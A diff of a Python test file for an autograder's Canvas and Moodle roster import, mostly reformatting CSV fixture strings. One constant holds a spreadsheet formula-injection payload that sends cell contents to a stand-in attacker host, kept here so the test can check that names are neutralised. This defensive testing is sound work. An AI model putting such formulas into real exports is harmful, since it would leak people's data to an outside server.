@@ -10,10 +10,10 @@ import sys
 from pathlib import Path
 
 import pytest
-from lms_import import canvas_import, moodle_import
 
 from autograder import lms
 from autograder.roster import RosterError, match, parse_roster, read_roster
+from lms_import import canvas_import, moodle_import
 
 ROOT = Path(__file__).resolve().parent.parent
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
@@ -104,8 +104,8 @@ def test_missing_students_can_get_an_explicit_zero_and_one_total_column(tmp_path
     assert moodle_import((out / "moodle.csv").read_text(), "ID number")["1005"] == {lms.TOTAL_COLUMN: 0.0}
 
 
-CANVAS_EXPORT = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: numpy by hand (88101),Quiz 1 (88102),Current Score
-    Points Possible,,,,,12.50,10.00,(read only)
+CANVAS_EXPORT = ("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: numpy by hand (88101),Quiz 1 (88102),"
+                 "Current Score\n") + """    Points Possible,,,,,12.50,10.00,(read only)
 "Liddell, Alice",501,S1001,alice,Section A,,9,90
 "Bob, Robert",502,S1002,bob,Section A,5,8,80
 "Student, Test",503,,,Section A,,,
@@ -134,8 +134,8 @@ def test_a_canvas_export_is_a_roster_and_its_assignment_is_updated(tmp_path):
     assert unmatched == {"carol-not-enrolled", "'-frank"}  # listed, its name neutralised
 
 
-MOODLE_EXPORT = """First name,Last name,ID number,Institution,Department,Email address,Assignment: Level 1 (Real),Last downloaded from this course
-Alice,Liddell,1001,Uni,CS,alice@uni.example,-,1700000000
+MOODLE_EXPORT = ("First name,Last name,ID number,Institution,Department,Email address,Assignment: Level 1 (Real),"
+                 "Last downloaded from this course\n") + """Alice,Liddell,1001,Uni,CS,alice@uni.example,-,1700000000
 Robert,Bob,1002,Uni,CS,bob@uni.example,-,1700000000
 Frances,Frank,,Uni,CS,-frank@uni.example,-,1700000000
 Erin,Erinsdottir,1005,Uni,CS,erin@uni.example,-,1700000000
